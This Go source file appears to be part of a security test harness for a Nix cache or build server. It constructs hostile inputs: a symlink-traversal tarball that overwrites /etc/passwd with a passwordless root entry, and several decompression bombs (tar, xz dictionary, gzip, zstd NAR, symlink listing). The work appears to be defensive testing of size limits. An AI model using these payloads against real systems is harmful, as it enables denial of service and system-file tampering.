package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
)

// payloads are the hostile bodies, made once before the attack (all of
// them small: the server does the expanding).
type payloads struct {
	symlinkTarball []byte   // top/x → /etc/passwd, then a regular file top/x
	tarBomb        []byte   // xz tar stream unpacking past max_tarball_unpacked_size
	bigNarInfo     []byte   // a narinfo body larger than 1 MiB
	xzDict         []byte   // xz stream declaring a 1.5 GiB dictionary
	gzipLog        []byte   // gzip body decoding to logBombMiB MiB
	zeroNar        *narFile // zstd NAR of one zero file decoding past max_nar_size
	listingNar     *narFile // NAR of listingLinks symlinks with long targets
	listingInfo    []byte   // its narinfo
	listingHash    string   // its hash part
}

const (
	tarBombMiB    = 96   // files in the tar bomb, of 1 MiB each (the limit is set to 64 MiB)
	logBombMiB    = 1024 // what the gzip log decodes to (the log limit is 256 MiB)
	zeroNarSize   = 1 << 30
	listingLinks  = 4000
	listingTarget = 60 << 10
)

func makePayloads() (*payloads, error) {
	p := &payloads{}
	var err error
	if p.symlinkTarball, err = makeTarball([]tarEntry{
		{name: "top/", typ: tar.TypeDir},
		{name: "top/default.nix", typ: tar.TypeReg, data: []byte("{ ... }: { }\n")},
		{name: "top/x", typ: tar.TypeSymlink, linkname: "/etc/passwd"},
		{name: "top/x", typ: tar.TypeReg, data: []byte("root::0:0::/root:/bin/sh\n")},
	}); err != nil {
		return nil, err
	}
	entries := []tarEntry{
		{name: "top/", typ: tar.TypeDir},
		{name: "top/default.nix", typ: tar.TypeReg, data: []byte("{ ... }: { }\n")},
	}
	for i := range tarBombMiB {
		entries = append(entries, tarEntry{name: fmt.Sprintf("top/zero%03d", i), typ: tar.TypeReg, size: 1 << 20})
	}
	if p.tarBomb, err = makeTarball(entries); err != nil {
		return nil, err
	}

	var ni bytes.Buffer
	fmt.Fprintf(&ni, "StorePath: /nix/store/%s-big\nURL: nar/x.nar\nCompression: none\nReferences:", randomHashPart())
	for ni.Len() < 3<<19 {
		fmt.Fprintf(&ni, " %s-ref", randomHashPart())
	}
	ni.WriteString("\n")
	p.bigNarInfo = ni.Bytes()
	p.xzDict = xzDictBomb(37)
	p.gzipLog = gzipZeros(logBombMiB)

	if p.zeroNar, err = makeNar(true, func(n *narWriter) { n.zeroFile(zeroNarSize) }); err != nil {
		return nil, err
	}
	if p.listingNar, err = makeNar(true, func(n *narWriter) { n.symlinks(listingLinks, listingTarget) }); err != nil {
		return nil, err
	}
	p.listingHash = randomHashPart()
	p.listingInfo = narInfo(p.listingHash, "listing-bomb", p.listingNar)
	return p, nil
}

// xzDictBomb is an xz stream whose one block declares an LZMA2 dictionary
// of (2|props&1) << (props/2+11) bytes (props 37: 1.5 GiB) and holds one
// uncompressed byte: stream header, block header, LZMA2 chunk, CRC32,
// index, footer.
func xzDictBomb(props byte) []byte {
	var b bytes.Buffer
	le := binary.LittleEndian
	flags := []byte{0, 0x01} // check: CRC32
	b.Write([]byte{0xfd, '7', 'z', 'X', 'Z', 0})
	b.Write(flags)
	b.Write(le.AppendUint32(nil, crc32.ChecksumIEEE(flags)))
	// Block header: size (2+1)*4, no flags but one filter, LZMA2 (0x21)
	// with one property byte, padding.
	hdr := []byte{2, 0, 0x21, 1, props, 0, 0, 0}
	b.Write(hdr)
	b.Write(le.AppendUint32(nil, crc32.ChecksumIEEE(hdr)))
	// LZMA2: an uncompressed chunk resetting the dictionary, 1 byte, end.
	data := []byte{0x01, 0x00, 0x00, 'x', 0x00}
	b.Write(data)
	b.Write(make([]byte, (4-(len(hdr)+4+len(data))%4)%4))
	b.Write(le.AppendUint32(nil, crc32.ChecksumIEEE([]byte("x"))))
	// Index: one record (unpadded size, uncompressed size 1).
	index := []byte{0, 1, byte(len(hdr) + 4 + len(data) + 4), 1}
	b.Write(index)
	b.Write(le.AppendUint32(nil, crc32.ChecksumIEEE(index)))
	footer := append(le.AppendUint32(nil, uint32((len(index)+4)/4-1)), flags...)
	b.Write(le.AppendUint32(nil, crc32.ChecksumIEEE(footer)))
	b.Write(footer)
	b.WriteString("YZ")
	return b.Bytes()
}

// gzipZeros is n gzip members of 1 MiB of zeros each (about 1 KiB each):
// a body that decodes to n MiB.
func gzipZeros(n int) []byte {
	var one bytes.Buffer
	w, _ := gzip.NewWriterLevel(&one, gzip.BestCompression)
	w.Write(make([]byte, 1<<20))
	w.Close()
	return bytes.Repeat(one.Bytes(), n)
}

// longQuery is a search query of n characters made of words.
func longQuery(n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "w%dx ", i)
	}
	return b.String()[:n]
}
